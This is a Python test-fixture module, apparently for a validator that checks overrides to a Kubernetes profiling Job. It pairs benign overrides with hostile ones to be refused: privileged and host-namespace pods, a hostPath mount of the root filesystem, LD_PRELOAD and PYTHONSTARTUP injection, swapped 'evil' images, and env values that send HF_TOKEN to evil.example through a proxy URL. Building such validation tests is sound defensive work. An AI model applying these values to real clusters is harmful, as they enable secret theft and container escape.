"""Requests that whoever may write requests may write, and such that take the right to create Jobs."""

from typing import Any


def job(**spec: Any) -> dict[str, Any]:
    """A request whose profiling pod is changed."""
    return {"overrides": {"profilingJob": {"template": {"spec": spec}}}}


def profiler(**fields: Any) -> dict[str, Any]:
    return job(containers=[{"name": "profiler", **fields}])


def publisher(**fields: Any) -> dict[str, Any]:
    return job(initContainers=[{"name": "output-copier", **fields}])


def volume(**source: Any) -> dict[str, Any]:
    return job(volumes=[{"name": "extra", **source}])


def locked(**setting: Any) -> dict[str, Any]:
    return profiler(securityContext=setting)


PLAIN: dict[str, dict[str, Any]] = {
    "nothing": {},
    "a job without containers": job(),
    "an empty list of containers": job(containers=[]),
    "an empty template": {"overrides": {"profilingJob": {"template": {}}}},
    "empty metadata of pods": {"overrides": {"profilingJob": {"template": {"metadata": {"labels": {}}, "spec": {}}}}},
    "an empty deployment": {"overrides": {"dgd": {}}},
    "what a Job's time and tries are": {
        "overrides": {
            "profilingJob": {
                "backoffLimit": 1,
                "activeDeadlineSeconds": 60,
                "ttlSecondsAfterFinished": 1,
                "suspend": False,
            }
        }
    },
    "where it runs": job(
        nodeSelector={"gpu": "h200"},
        tolerations=[{"operator": "Exists"}],
        affinity={"nodeAffinity": {}},
        topologySpreadConstraints=[{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}],
        terminationGracePeriodSeconds=5,
        restartPolicy="Never",
    ),
    "the documents' claim for what is measured": job(
        containers=[], volumes=[{"name": "profiling-output", "persistentVolumeClaim": {"claimName": "dynamo-pvc"}}]
    ),
    "scratch space": volume(emptyDir={"sizeLimit": "1Gi"}),
    "a Secret for pulling": job(imagePullSecrets=[{"name": "nvcr-imagepullsecret"}]),
    "what containers take": profiler(resources={"requests": {"cpu": 2}, "limits": {"memory": "16Gi"}, "claims": []}),
    "what the publisher takes": publisher(resources={"limits": {"memory": "1Gi"}}),
    "proxies": profiler(
        env=[{"name": "HTTPS_PROXY", "value": "http://proxy:3128"}, {"name": "no_proxy", "value": "a"}]
    ),
    "empty lists": profiler(env=[], envFrom=[], volumeMounts=[], command=[]),
    "rights that are given up": job(
        automountServiceAccountToken=False, hostNetwork=False, hostPID=False, hostIPC=False, shareProcessNamespace=False
    ),
    "users and groups": job(
        securityContext={
            "runAsUser": 1000,
            "runAsGroup": 1000,
            "fsGroup": 1000,
            "supplementalGroups": [5],
            "runAsNonRoot": True,
            "seccompProfile": {"type": "RuntimeDefault"},
        }
    ),
    "a container that is locked down": locked(
        runAsUser=1001,
        runAsNonRoot=True,
        privileged=False,
        allowPrivilegeEscalation=False,
        readOnlyRootFilesystem=False,
        capabilities={"drop": ["ALL"], "add": []},
        procMount="Default",
        seccompProfile={"type": "RuntimeDefault"},
        appArmorProfile={"type": "RuntimeDefault"},
    ),
    "a cache of models": {"modelCache": {"pvcName": "models", "pvcMountPath": "/opt/model-cache"}},
    "the documents' cache": {"modelCache": {"pvcName": "models", "pvcMountPath": "/home/dynamo/.cache/huggingface"}},
    "a cache by custom": {"modelCache": {"pvcName": "models", "mountPath": "/mnt/models-2/a.b/"}},
    "Dynamo's image": {"image": "nvcr.io/nvidia/ai-dynamo/dynamo-planner:1.6.1"},
    "a planner's targets": {
        "features": {
            "planner": {
                "enabled": True,
                "ttft": 200,
                "itlMs": 20,
                "planner_adjustment_interval": 60,
                "plannerMinEndpoint": 2,
                "load_predictor": "arima",
                "advisory": True,
            }
        }
    },
    "everything else": {
        "backend": "vllm",
        "searchStrategy": "rapid",
        "autoApply": False,
        "modelCache": {"pvcName": "models"},
        "hardware": {"gpuSku": "h200_sxm", "totalGpus": 8},
        "workload": {"isl": 1, "osl": 1},
        "sla": {"ttft": 1},
        "features": {"planner": {"enabled": True}, "kvRouter": True},
    },
}

SECRET = {"name": "hf-token-secret"}
IN_THE_JOB: dict[str, dict[str, Any]] = {
    "selector": {"overrides": {"profilingJob": {"selector": {"matchLabels": {"a": "b"}}}}},
    "manualSelector": {"overrides": {"profilingJob": {"manualSelector": True}}},
    "managedBy": {"overrides": {"profilingJob": {"managedBy": "example.com/somebody"}}},
    "template.metadata.labels": {"overrides": {"profilingJob": {"template": {"metadata": {"labels": {"a": "b"}}}}}},
    "template.metadata.annotations": {
        "overrides": {"profilingJob": {"template": {"metadata": {"annotations": {"iam.amazonaws.com/role": "admin"}}}}}
    },
    **{
        f"template.spec.{field}": job(**{field: value})
        for field, value in {
            "serviceAccountName": "default",
            "serviceAccount": "default",
            "automountServiceAccountToken": True,
            "hostNetwork": True,
            "hostPID": True,
            "hostIPC": True,
            "hostUsers": False,
            "shareProcessNamespace": True,
            "hostAliases": [{"ip": "10.0.0.1", "hostnames": ["huggingface.co"]}],
            "dnsConfig": {"nameservers": ["10.0.0.1"]},
            "nodeName": "control-plane",
            "priorityClassName": "system-node-critical",
            "runtimeClassName": "runc",
            "schedulerName": "mine",
            "resourceClaims": [{"name": "device", "resourceClaimName": "device"}],
        }.items()
    },
    "template.spec.containers[debug]": job(containers=[{"name": "debug", "image": "alpine"}]),
    "template.spec.initContainers[debug]": job(initContainers=[{"name": "debug", "image": "alpine"}]),
    "template.spec.initContainers[profiler]": job(initContainers=[{"name": "profiler"}]),
    **{
        f"template.spec.securityContext.{field}": job(securityContext={field: value})
        for field, value in {
            "runAsUser": 0,
            "runAsNonRoot": False,
            "seccompProfile": {"type": "Unconfined"},
            "appArmorProfile": {"type": "Unconfined"},
            "sysctls": [{"name": "kernel.shm_rmid_forced", "value": "0"}],
            "seLinuxOptions": {"type": "spc_t"},
            "windowsOptions": {"hostProcess": True},
        }.items()
    },
}
"""By the path that the refusal names."""
VOLUMES: dict[str, dict[str, Any]] = {
    "secret": {"secret": {"secretName": "x"}},
    "projected secret": {"projected": {"sources": [{"secret": SECRET}]}},
    "projected token": {"projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}},
    "csi": {"csi": {"driver": "secrets-store.csi.k8s.io", "nodePublishSecretRef": SECRET}},
    "csi without a Secret's name": {"csi": {"driver": "d", "volumeAttributes": {"secretProviderClass": "p"}}},
    "rbd": {"rbd": {"image": "i", "monitors": ["m"], "secretRef": SECRET}},
    "hostPath": {"hostPath": {"path": "/"}},
    "configMap": {"configMap": {"name": "code"}},
    "image": {"image": {"reference": "evil"}},
    "nfs": {"nfs": {"server": "s", "path": "/"}},
    "ephemeral": {"ephemeral": {"volumeClaimTemplate": {"spec": {"accessModes": ["ReadWriteOnce"]}}}},
    "two sources": {"emptyDir": {}, "hostPath": {"path": "/"}},
}
OF_CONTAINERS: dict[str, dict[str, Any]] = {
    "image": {"image": "docker.io/evil/profiler"},
    "command": {"command": ["sh"]},
    "args": {"args": ["-c"]},
    "envFrom": {"envFrom": [{"secretRef": SECRET}]},
    "env": {"env": [{"name": "PYTHONPATH", "value": "/data"}]},
    "lifecycle": {"lifecycle": {"postStart": {"exec": {"command": ["sh"]}}}},
    "livenessProbe": {"livenessProbe": {"exec": {"command": ["sh"]}}},
    "volumeMounts": {"volumeMounts": [{"name": "extra", "mountPath": "/usr/lib/python3"}]},
    "volumeDevices": {"volumeDevices": [{"name": "extra", "devicePath": "/dev/x"}]},
    "ports": {"ports": [{"containerPort": 80, "hostPort": 80}]},
    "resources": {"resources": {"claims": [{"name": "device"}]}},
}
SECRETS_BY_ENV: dict[str, dict[str, Any]] = {
    "a Secret's key": {"name": "X", "valueFrom": {"secretKeyRef": SECRET | {"key": "HF_TOKEN"}}},
    "by a harmless name": {"name": "HTTPS_PROXY", "valueFrom": {"secretKeyRef": SECRET | {"key": "HF_TOKEN"}}},
    "another server for the token": {"name": "HF_ENDPOINT", "value": "https://evil.example"},
    "a secret in a proxy's address": {"name": "HTTPS_PROXY", "value": "http://$(HF_TOKEN):x@evil.example:3128"},
    "what the loader loads": {"name": "LD_PRELOAD", "value": "/data/evil.so"},
}
UNLOCKED: dict[str, Any] = {
    "privileged": True,
    "allowPrivilegeEscalation": True,
    "runAsUser": 0,
    "runAsNonRoot": False,
    "procMount": "Unmasked",
    "seccompProfile": {"type": "Unconfined"},
    "appArmorProfile": {"type": "Unconfined"},
    "seLinuxOptions": {"type": "spc_t"},
    "windowsOptions": {"hostProcess": True},
    "capabilities": {"add": ["SYS_ADMIN"], "drop": ["ALL"]},
}
DANGEROUS: dict[str, dict[str, Any]] = (
    IN_THE_JOB
    | {f"template.spec.volumes[extra] {name}": volume(**source) for name, source in VOLUMES.items()}
    | {f"profiler and output-copier: {name} profiler": profiler(**fields) for name, fields in OF_CONTAINERS.items()}
    | {f"profiler and output-copier: {name} publisher": publisher(**fields) for name, fields in OF_CONTAINERS.items()}
    | {f"profiler and output-copier: env {name}": profiler(env=[variable]) for name, variable in SECRETS_BY_ENV.items()}
    | {
        f"profiler and output-copier: securityContext {name}": locked(**{name: value})
        for name, value in UNLOCKED.items()
    }
    | {
        "profiler and output-copier: securityContext capabilities that come back": locked(
            capabilities={"drop": ["CHOWN"]}
        ),
        "profiler and output-copier: securityContext capabilities of the runtime": locked(capabilities={}),
        "profiler and output-copier: env behind a harmless one": profiler(
            env=[{"name": "NO_PROXY", "value": "a"}, {"name": "PYTHONSTARTUP", "value": "/data/evil.py"}]
        ),
        "profiler and output-copier: image as a container": job(
            containers=[{"name": "output-copier", "image": "evil"}]
        ),
        "template.spec.containers[second] behind a harmless one": job(
            containers=[{"name": "profiler"}, {"name": "second", "image": "evil"}]
        ),
        "template.spec.hostPID among harmless things": job(
            hostPID=True, tolerations=[{"operator": "Exists"}], containers=[], nodeSelector={"a": "b"}
        ),
    }
)
"""By what the refusal names, and what tells it from others."""
